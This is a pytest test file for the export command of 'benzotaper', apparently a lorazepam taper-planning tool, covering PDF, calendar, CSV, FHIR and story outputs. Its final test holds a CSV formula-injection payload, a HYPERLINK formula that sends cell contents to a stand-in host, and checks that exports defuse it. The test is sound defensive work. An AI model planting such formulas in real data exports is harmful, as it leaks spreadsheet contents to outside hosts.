"""`benzotaper export` through the installed console script, as a person would run it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
import sys
from contextlib import chdir
from pathlib import Path

import icalendar
import pypdf
import pytest
from click.testing import Result
from typer.testing import CliRunner

from benzotaper.catalogue import Catalogue
from benzotaper.cli import app
from benzotaper.exports import steps_csv
from benzotaper.planning.models import Plan


@pytest.fixture
def plan(handmade: Plan) -> Plan:
    """These tests check the hand-made plan's known details."""
    return handmade


def console_script(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    """The installed `benzotaper` executable (slow to start: used for the entry-point checks)."""
    exe = shutil.which("benzotaper", path=str(Path(sys.executable).parent))
    assert exe is not None, "the console script is not installed in this environment"
    return subprocess.run([exe, *args], cwd=cwd, capture_output=True, timeout=300)


def benzotaper(*args: str, cwd: Path) -> Result:
    """The same Typer app, in-process: stdout, stderr and the exit code as the shell sees them."""
    with chdir(cwd):
        return CliRunner().invoke(app, list(args))


def test_console_script_writes_a_pdf_and_refuses_bad_input(plan_file: Path, tmp_path: Path) -> None:
    out = console_script(
        "export",
        "-f",
        "pdf",
        "--plan-file",
        str(plan_file),
        "-o",
        "p.pdf",
        "--today",
        "2026-12-20",
        cwd=tmp_path,
    )
    assert out.returncode == 0, out.stderr
    assert b"Wrote p.pdf" in out.stderr
    text = pypdf.PdfReader(tmp_path / "p.pdf").pages[0].extract_text()
    assert "Your taper schedule" in text and "Today (Sun 20 Dec 2026)" in text
    out = console_script(
        "export", "-f", "ics", "--tz", "Mars/Olympus", "--plan-file", str(plan_file), cwd=tmp_path
    )
    assert out.returncode == 2 and b"Unknown time zone" in out.stderr
    assert b"Traceback" not in out.stderr


@pytest.fixture
def plan_file(plan: Plan, tmp_path: Path) -> Path:
    path = tmp_path / "plan.json"
    path.write_text(plan.model_dump_json())
    return path


def test_every_format_from_a_plan_file(plan: Plan, plan_file: Path, tmp_path: Path) -> None:
    out = benzotaper(
        "export",
        "-f",
        "pdf",
        "--plan-file",
        str(plan_file),
        "-o",
        "p.pdf",
        "--today",
        "2026-12-20",
        cwd=tmp_path,
    )
    assert out.exit_code == 0, out.stderr
    assert "Wrote p.pdf" in out.stderr
    text = pypdf.PdfReader(tmp_path / "p.pdf").pages[0].extract_text()
    assert "Your taper schedule" in text and "Today (Sun 20 Dec 2026)" in text

    out = benzotaper(
        "export",
        "-f",
        "pdf",
        "--pdf-kind",
        "prescriber",
        "--plan-file",
        str(plan_file),
        "-o",
        "rx.pdf",
        cwd=tmp_path,
    )
    assert out.exit_code == 0, out.output
    assert "prescriber and pharmacy" in pypdf.PdfReader(tmp_path / "rx.pdf").pages[0].extract_text()

    out = benzotaper(
        "export", "-f", "ics", "--tz", "Europe/London", "--plan-file", str(plan_file), cwd=tmp_path
    )
    assert out.exit_code == 0, out.stderr
    cal = icalendar.Calendar.from_ical(out.stdout_bytes)
    assert [str(t["TZID"]) for t in cal.walk("VTIMEZONE")] == ["Europe/London"]

    out = benzotaper("export", "-f", "csv", "--plan-file", str(plan_file), cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert len(rows) == sum(max(1, len(s.doses)) for s in plan.steps)

    out = benzotaper(
        "export", "-f", "fhir", "--fhir-version", "r5", "--plan-file", str(plan_file), cwd=tmp_path
    )
    assert json.loads(out.stdout_bytes)["resourceType"] == "Bundle"

    out = benzotaper(
        "export",
        "-f",
        "story",
        "--story-kind",
        "text",
        "--today",
        "2027-02-01",
        "--plan-file",
        str(plan_file),
        cwd=tmp_path,
    )
    assert "30% done" in out.stdout

    out = benzotaper(
        "export",
        "-f",
        "story",
        "--story-kind",
        "png",
        "--plan-file",
        str(plan_file),
        "-o",
        "story.png",
        cwd=tmp_path,
    )
    assert (tmp_path / "story.png").read_bytes()[:4] == b"\x89PNG"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-f", "ics", "--tz", "Mars/Olympus"], "Unknown time zone"),
        (["-f", "pdf", "--today", "20/12/2026"], "--today must be a date"),
        (["-f", "csv", "--plan-file", "missing.json"], "Cannot read the plan file"),
        (["-f", "csv"], "Give the plan to export"),
        (["-f", "csv", "--take", "lorazepam 1 mg at 08:00", "--bogus"], "No such option: --bogus"),
        (["-f", "csv", "--take", "lorazepamm 1 mg at 08:00"], "Unknown drug 'lorazepamm'"),
    ],
)
def test_clear_errors(plan_file: Path, tmp_path: Path, args: list[str], message: str) -> None:
    if "--plan-file" not in args and "--take" not in args and args != ["-f", "csv"]:
        args = [*args, "--plan-file", str(plan_file)]
    out = benzotaper("export", *args, "-o", "x", cwd=tmp_path)
    assert out.exit_code == 2
    assert message in out.stderr
    assert "Traceback" not in out.stderr
    assert not (tmp_path / "x").exists()


def test_not_a_plan_file(tmp_path: Path) -> None:
    (tmp_path / "bad.json").write_text('{"steps": []}')
    out = benzotaper("export", "-f", "csv", "--plan-file", "bad.json", cwd=tmp_path)
    assert out.exit_code == 2 and "is not a benzotaper plan" in out.stderr


def test_plan_from_stdin(plan: Plan, tmp_path: Path) -> None:
    with chdir(tmp_path):
        out = CliRunner().invoke(
            app, ["export", "-f", "csv", "--plan-file", "-"], input=plan.model_dump_json()
        )
    assert out.exit_code == 0, out.output
    assert out.stdout.startswith("step,phase,start")


#: The saved plans below start tomorrow: a fixed date would slip out of the plan start window
#: (two years back) and the journal's back-fill window as the calendar moves on.
START = dt.date.today() + dt.timedelta(days=1)


def day(offset: int) -> str:
    """The plan's day ``offset`` (0 = its first day) as YYYY-MM-DD."""
    return (START + dt.timedelta(days=offset)).isoformat()


def test_plan_options_are_the_plan_commands(tmp_path: Path, catalogue: Catalogue) -> None:
    """`export` with `plan` options exports exactly the plan `plan --format json` prints."""
    opts = [
        "--take",
        "lorazepam 1 mg at 08:00",
        "--take",
        "lorazepam 1 mg at 22:00",
        "--liquid",
        "--start",
        day(0),
        "--hold",
        f"{day(90)}:14",
    ]
    planned = benzotaper("plan", *opts, "--format", "json", cwd=tmp_path)
    assert planned.exit_code == 0, planned.output
    plan = Plan.model_validate_json(planned.stdout)
    out = benzotaper("export", "-f", "csv", *opts, cwd=tmp_path)
    assert out.exit_code == 0, out.output
    assert out.stdout_bytes == steps_csv(plan).encode()
    assert any(s.phase == "hold" for s in plan.steps)
    both = benzotaper("export", "-f", "csv", "--plan-file", "p.json", *opts, cwd=tmp_path)
    assert both.exit_code == 2 and "not several" in both.stderr


def save_lorazepam_plan(tmp_path: Path) -> None:
    """`benzotaper plan ... --save`: lorazepam 1 mg twice a day from tomorrow (``START``)."""
    saved = benzotaper(
        "plan",
        "--take",
        "lorazepam 1 mg at 08:00",
        "--take",
        "lorazepam 1 mg at 22:00",
        "--start",
        day(0),
        "--save",
        cwd=tmp_path,
    )
    assert saved.exit_code == 0, saved.output


def journal_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    """The journal's "now" after the entries these tests record (it refuses future days)."""
    now = dt.datetime.combine(START + dt.timedelta(days=4), dt.time(9))
    monkeypatch.setattr("benzotaper.cli.journal.clock", lambda: now)


def test_active_plan_and_journal_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BENZOTAPER_DATABASE_URL", f"sqlite:///{tmp_path / 'j.sqlite3'}")
    journal_clock(monkeypatch)
    out = benzotaper("export", "-f", "csv", "--active", cwd=tmp_path)
    assert out.exit_code == 2 and "No saved plan yet" in out.stderr
    save_lorazepam_plan(tmp_path)
    took = benzotaper(
        "take",
        "--drug",
        "lorazepam",
        "--mg",
        "0.9",
        "--time",
        "08:05",
        "--date",
        day(1),
        "--confirm",  # 0.9 mg is not the planned amount: the journal asks first
        cwd=tmp_path,
    )
    assert took.exit_code == 0, took.output
    ciwa = ",".join(["1"] * 22)
    checked = benzotaper(
        "checkin", "--ciwa-b", ciwa, "--quick", "anxiety=4", "--date", day(2), cwd=tmp_path
    )
    assert checked.exit_code == 0, checked.output

    steps = benzotaper("export", "-f", "csv", "--active", cwd=tmp_path)
    assert steps.exit_code == 0, steps.output
    assert steps.stdout.startswith("step,phase,start") and ",lorazepam," in steps.stdout
    out = benzotaper("export", "-f", "csv", "--csv-kind", "journal", "--active", cwd=tmp_path)
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    dose = next(r for r in rows if r["kind"] == "dose")
    assert (dose["date"], dose["drug"], dose["mg"], dose["time"]) == (
        day(1),
        "lorazepam",
        "0.9",
        "08:05",
    )
    check = next(r for r in rows if r["kind"] == "checkin")
    assert (check["date"], check["ciwa_b_total"], check["quick"]) == (
        day(2),
        "22",
        "anxiety=4",
    )
    need = benzotaper("export", "-f", "csv", "--csv-kind", "journal", cwd=tmp_path)
    assert need.exit_code == 2 and "--active" in need.stderr


def test_active_fhir_carries_the_journal_unless_told_not_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BENZOTAPER_DATABASE_URL", f"sqlite:///{tmp_path / 'j.sqlite3'}")
    journal_clock(monkeypatch)
    save_lorazepam_plan(tmp_path)
    bwsq = ",".join(["2"] * 20)
    checked = benzotaper("checkin", "--bwsq", bwsq, "--date", day(2), cwd=tmp_path)
    assert checked.exit_code == 0, checked.output

    for version in ("r4b", "r5"):
        out = benzotaper(
            "export", "-f", "fhir", "--active", "--fhir-version", version, cwd=tmp_path
        )
        assert out.exit_code == 0, out.output
        data = json.loads(out.stdout)
        (response,) = [
            e["resource"]
            for e in data["entry"]
            if e["resource"]["resourceType"] == "QuestionnaireResponse"
        ]
        assert [a["valueInteger"] for i in response["item"] for a in i["answer"]] == [2] * 20
        (score,) = [
            e["resource"] for e in data["entry"] if e["resource"]["resourceType"] == "Observation"
        ]
        assert score["valueQuantity"]["value"] == 40 and score["effectiveDateTime"] == day(2)

    plain = benzotaper("export", "-f", "fhir", "--active", "--no-journal", cwd=tmp_path)
    assert plain.exit_code == 0, plain.output
    kinds = {e["resource"]["resourceType"] for e in json.loads(plain.stdout)["entry"]}
    assert kinds == {"Patient", "MedicationRequest"}

    story = benzotaper(
        "export",
        "-f",
        "story",
        "--story-kind",
        "text",
        "--active",
        "--today",
        day(19),
        cwd=tmp_path,
    )
    assert story.exit_code == 0, story.output
    assert "Started on: lorazepam 2 mg/day" in story.stdout and "week 3 of" in story.stdout

    need = benzotaper(
        "export", "-f", "fhir", "--journal", "--take", "lorazepam 1 mg at 08:00", cwd=tmp_path
    )
    assert need.exit_code == 2 and "--active" in need.stderr


def test_csv_exports_cannot_carry_a_spreadsheet_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A note starting with = (or +, -, @) would run as a formula in a spreadsheet."""
    monkeypatch.setenv("BENZOTAPER_DATABASE_URL", f"sqlite:///{tmp_path / 'f.sqlite3'}")
    save_lorazepam_plan(tmp_path)
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    for text in (formula, "+1+1", "@SUM(A1:A2)", "-2+3"):
        noted = benzotaper("note", "--", text, cwd=tmp_path)  # today: no entry is future-dated
        assert noted.exit_code == 0, noted.output
    out = benzotaper("export", "-f", "csv", "--csv-kind", "journal", "--active", cwd=tmp_path)
    assert out.exit_code == 0, out.output
    notes = [r["note"] for r in csv.DictReader(io.StringIO(out.stdout)) if r["kind"] == "note"]
    assert sorted(notes) == sorted(["'" + formula, "'+1+1", "'@SUM(A1:A2)", "'-2+3"])
    steps = benzotaper("export", "-f", "csv", "--active", cwd=tmp_path)
    rows = list(csv.DictReader(io.StringIO(steps.stdout)))
    assert any(r["change_percent"].startswith("-") for r in rows)  # numbers stay numbers
